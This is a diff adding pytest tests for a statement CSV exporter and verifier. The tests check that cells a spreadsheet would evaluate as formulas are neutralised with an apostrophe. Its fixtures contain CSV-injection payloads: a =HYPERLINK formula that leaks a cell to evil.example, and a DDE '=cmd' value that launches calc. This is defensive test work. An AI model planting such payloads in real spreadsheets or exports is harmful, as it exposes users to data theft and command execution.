@@ -285,6 +285,76 @@ def test_a_description_with_a_comma_quote_and_newline_is_escaped_and_still_verif
     assert result.returncode == 0, result.stdout
 
 
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Statement OK")'
+# Text a spreadsheet would run as a formula, or (the apostrophe) that must survive the escaping.
+FORMULAS = [HYPERLINK, "+44 114 000 0000", "-1.50 adjustment", "@SUM(1+1)", "\tTabbed", "'quoted'"]
+
+
+@pytest.fixture
+def formula_books(society):
+    society.name = 'Citylife, =cmd|" /C calc"!A0, "@x"'
+    society.save()
+    with at(2025, 6, 1):
+        for number, text in enumerate(FORMULAS):
+            pay_in(society, f"{'=' if number == 0 else '@'}key:{number}", 100 + number, description=text)
+    return society
+
+
+def test_a_description_a_spreadsheet_would_run_is_neutralised_and_still_verifies(
+    formula_books, auditor, tmp_path
+):
+    """Issue 9, finding 10: `=HYPERLINK(...)` in a description reached a cell unescaped."""
+    text = csv_text(download(auditor, formula_books))
+    facts, rows = parse(text)
+    assert facts["format_version"] == "2"
+
+    # Every text cell a spreadsheet would run starts with the apostrophe; the numbers stay numbers.
+    cells = list(csv.reader(io.StringIO(text.partition("\r\nsequence,")[2], newline="")))
+    for row in cells[1:]:
+        for column, cell in zip(statements.CSV_COLUMNS, row, strict=True):
+            if column in statements.CSV_TEXT_COLUMNS:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+    descriptions = [row["description"] for row in rows[::2]]
+    assert descriptions == ["'" + formula for formula in FORMULAS]
+    assert [row["idempotency_key"] for row in rows[::2]][:2] == ["'=key:0", "'@key:1"]
+    assert rows[1]["amount_pence"] == "-100" and rows[1]["credit"] == "1.00"
+    # The unsigned name line: each place a spreadsheet would start a cell is escaped too.
+    assert facts["issuer_name"] == 'Citylife, \'=cmd|" /C calc"!A0, "\'@x"'
+
+    result = verify(tmp_path, text, "--public-key", published_key())
+    assert result.returncode == 0, result.stdout
+    assert "(6 entries, 12 postings)" in result.stdout
+
+
+def test_the_verifier_refuses_an_unescaped_formula_and_a_needless_apostrophe(
+    formula_books, auditor, tmp_path
+):
+    text = csv_text(download(auditor, formula_books))
+
+    # Someone took the apostrophe away: the hash would still match, so the verifier says why it fails.
+    bare = text.replace(""""'=HYPERLINK""", '"=HYPERLINK')
+    assert bare != text
+    result = verify(tmp_path, bare, "--public-key", published_key())
+    assert result.returncode == 1 and "would run as a formula" in result.stdout, result.stdout
+
+    needless = text.replace(",'@key:1,", ",'key:1,", 1)
+    assert needless != text
+    result = verify(tmp_path, needless, "--public-key", published_key())
+    assert result.returncode == 1 and "apostrophe in front that nothing needed" in result.stdout, (
+        result.stdout
+    )
+
+
+def test_a_version_1_statement_still_verifies(books, auditor, tmp_path):
+    """Statements made before the escaping: nothing in them starts with an apostrophe to remove."""
+    text = csv_text(download(auditor, books, "&from=2025-04-01&to=2025-04-30"))
+    version_1 = text.replace("# format_version: 2\r\n", "# format_version: 1\r\n", 1)
+    assert version_1 != text
+
+    result = verify(tmp_path, version_1, "--public-key", published_key())
+    assert result.returncode == 0, result.stdout
+
+
 def test_a_long_statement_is_read_and_sent_a_chunk_at_a_time(books, auditor, tmp_path, monkeypatch):
     monkeypatch.setattr(statements, "_CHUNK", 2)
     monkeypatch.setattr(statements, "_ROWS_PER_WRITE", 3)
